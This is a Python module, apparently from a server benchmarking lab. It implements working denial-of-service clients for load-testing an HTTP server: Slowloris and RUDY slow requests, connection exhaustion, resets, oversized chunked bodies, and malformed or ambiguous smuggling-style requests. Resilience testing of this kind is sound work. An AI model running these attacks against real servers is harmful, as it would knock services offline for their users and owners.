"""Clients that mean no good: `python -m lab.bench.attacks NAME HOST:PORT [NUMBER]`.

Each attack is a process of its own, so that its work is not that of whoever measures.  It says
"under way" once all of its connections are open, and goes on until its standard input ends.  What
the server closes is opened again: an attacker has time.
"""

import os
import select
import socket
import struct
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass
from itertools import count, cycle

Address = tuple[str, int]

PAUSE = 0.05
"""Seconds between two rounds of an attack that is slow by intention."""
PORTS = 20_000
"""Connections from one address: fewer than the ports that Linux gives out."""
UNDER_WAY = "under way"
LARGE = "/large"
"""What the application answers with much more than a socket holds."""
HELLO = b"GET / HTTP/1.1\r\nHost: a\r\n\r\n"
RESET = struct.pack("ii", True, 0)

BAD = (
    b"GET / HTTP/1.1\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: a\r\nContent-Length: +1\r\n\r\n",
    b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 1\r\nTransfer-Encoding: chunked\r\n\r\n",
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n",
    b"GET /" + b"a" * 8_000,
    b"GET / HTTP/1.1\nHost: a\n\n",
)


class Attacker:
    """Opens connections to one server, from as many addresses as that takes."""

    def __init__(self, address: Address, number: int) -> None:
        self.address = address
        self.number = number
        self._opened = count()

    def connect(self, buffer: int = 0) -> socket.socket:
        """A connection that never blocks; ``buffer``: bytes that it takes.  Raises OSError."""
        sock = socket.socket()
        if buffer:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, buffer)
        if self.number > PORTS:
            sock.bind((f"127.0.0.{2 + next(self._opened) // PORTS % 250}", 0))
        sock.settimeout(10)
        sock.connect(self.address)
        sock.setblocking(False)
        return sock

    def crowd(self, said: bytes = b"", buffer: int = 0) -> list[socket.socket]:
        """All connections, each having said something."""
        crowd = [self.connect(buffer) for _ in range(self.number)]
        for sock in crowd:
            sock.send(said)
        return crowd

    def replace(self, crowd: list[socket.socket], said: bytes = b"", buffer: int = 0) -> None:
        """Open anew what the server has closed, as far as it lets us."""
        poller = select.poll()
        for sock in crowd:
            poller.register(sock, select.POLLRDHUP)
        gone = {descriptor for descriptor, _ in poller.poll(0)}
        for at, sock in enumerate(crowd):
            if sock.fileno() in gone:
                sock.close()
                with suppress(OSError):
                    crowd[at] = self.connect(buffer)
                    crowd[at].send(said)


def drip(attacker: Attacker, opening: bytes, more: bytes) -> Iterator[None]:
    """Say a byte now and then, and never all."""
    crowd = attacker.crowd(opening)
    for octet in cycle(more):
        yield
        time.sleep(PAUSE)
        for sock in crowd:
            with suppress(OSError):
                sock.send(bytes([octet]))
        attacker.replace(crowd, opening)


def slow_heads(attacker: Attacker) -> Iterator[None]:
    """Slowloris: heads that never end."""
    return drip(attacker, HELLO[:-2], b"X-a: b\r\n")


def slow_bodies(attacker: Attacker) -> Iterator[None]:
    """Bodies that never end (RUDY)."""
    return drip(attacker, b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 100000\r\n\r\n", b"x")


def never_reads(attacker: Attacker) -> Iterator[None]:
    """Large answers, of which nothing is taken."""
    said, buffer = HELLO.replace(b"/", LARGE.encode(), 1), 4096
    crowd = attacker.crowd(said, buffer)
    for sock in crowd:  # a hundred downloads at once are dear, whoever asks for them
        select.select([sock], [], [], 10)
    while True:
        yield
        time.sleep(PAUSE)
        attacker.replace(crowd, said, buffer)


def idle(attacker: Attacker) -> Iterator[None]:
    """Connections that were used once and are kept."""
    crowd = []
    for _ in range(attacker.number):
        sock = attacker.connect()
        sock.send(HELLO)
        crowd.append(sock)
    for sock in crowd:
        sock.settimeout(10)
        sock.recv(4096)
        sock.setblocking(False)
    while True:
        yield
        time.sleep(PAUSE)
        attacker.replace(crowd, HELLO)


def silent(attacker: Attacker) -> Iterator[None]:
    """Connections on which nothing is ever said."""
    crowd = attacker.crowd()
    while True:
        yield
        time.sleep(PAUSE)
        attacker.replace(crowd)


def half_closed(attacker: Attacker) -> Iterator[None]:
    """Requests, whole and not, whose clients say that they are done, and stay."""
    crowd: list[socket.socket] = []
    for said in cycle(
        (HELLO, HELLO[:10], b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 9\r\n\r\nx")
    ):
        while len(crowd) >= attacker.number:
            yield
            time.sleep(PAUSE / 10)
            crowd.pop(0).close()
        with suppress(OSError):
            sock = attacker.connect()
            sock.send(said)
            sock.shutdown(socket.SHUT_WR)
            crowd.append(sock)


def resets(attacker: Attacker) -> Iterator[None]:
    """Connections cut off at every place: before a word, in a head, a body, an answer."""
    large = HELLO.replace(b"/", LARGE.encode(), 1)
    body = b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 9000\r\n\r\n" + b"x" * 4000
    for said in cycle((b"", HELLO[:10], body, HELLO, large, HELLO * 20)):
        with suppress(OSError), attacker.connect() as sock:
            sock.send(said)
            if said is large:
                sock.settimeout(10)
                sock.recv(4096)
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
        yield
        time.sleep(PAUSE / 10)


def bad_requests(attacker: Attacker) -> Iterator[None]:
    """What is no HTTP, or could be understood in two ways, one after the other."""
    for said in cycle(BAD):
        with suppress(OSError), attacker.connect() as sock:
            sock.settimeout(10)
            sock.send(said)
            sock.shutdown(socket.SHUT_WR)
            sock.recv(4096)
        yield


def large_bodies(attacker: Attacker) -> Iterator[None]:
    """Bodies larger than there is room for, as fast as they are taken."""
    said = b"POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n"
    chunk = b"10000\r\n" + b"x" * 65536 + b"\r\n"
    crowd, behind = attacker.crowd(said), [b""] * attacker.number
    while True:
        yield
        select.select([], crowd, [], PAUSE)
        for at, sock in enumerate(crowd):
            rest = behind[at] or chunk
            with suppress(OSError):
                behind[at] = rest[sock.send(rest) :]
        attacker.replace(crowd, said)


@dataclass(frozen=True)
class Attack:
    """One way to attack, and how many connections it is made with where nobody says so."""

    begin: Callable[[Attacker], Iterator[None]]
    number: int

    @property
    def summary(self) -> str:
        """What it does."""
        return (self.begin.__doc__ or "").strip()


ATTACKS = {
    "slow-heads": Attack(slow_heads, 500),
    "slow-bodies": Attack(slow_bodies, 500),
    "never-reads": Attack(never_reads, 100),
    "idle": Attack(idle, 10_000),
    "silent": Attack(silent, 500),
    "half-closed": Attack(half_closed, 100),
    "resets": Attack(resets, 1),
    "bad-requests": Attack(bad_requests, 1),
    "large-bodies": Attack(large_bodies, 4),
}


@contextmanager
def under_attack(name: str, address: Address, number: int = 0) -> Iterator[None]:
    """The server is attacked meanwhile; OSError where the attack cannot be made."""
    host, port = address
    words = [name, f"{host}:{port}", str(number or ATTACKS[name].number)]
    with subprocess.Popen(
        [sys.executable, "-m", "lab.bench.attacks", *words],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
    ) as process:
        assert process.stdin is not None
        assert process.stdout is not None
        try:
            if process.stdout.readline().strip() != UNDER_WAY:
                raise OSError(f"the attack {' '.join(words)} could not be made")
            yield
            if process.poll() is not None:
                raise OSError(f"the attack {' '.join(words)} has failed")
        finally:
            process.kill()


def main(name: str, bind: str, number: str = "") -> None:
    """Attack until standard input ends."""
    # The ordinary client shares this core: it is to wait for the server, never for the attack.
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    attack = ATTACKS[name]
    host, _, port = bind.rpartition(":")
    goes = attack.begin(Attacker((host, int(port)), int(number or attack.number)))
    next(goes)
    print(UNDER_WAY, flush=True)
    while not select.select([sys.stdin], [], [], 0)[0]:
        next(goes)


if __name__ == "__main__":
    main(*sys.argv[1:])
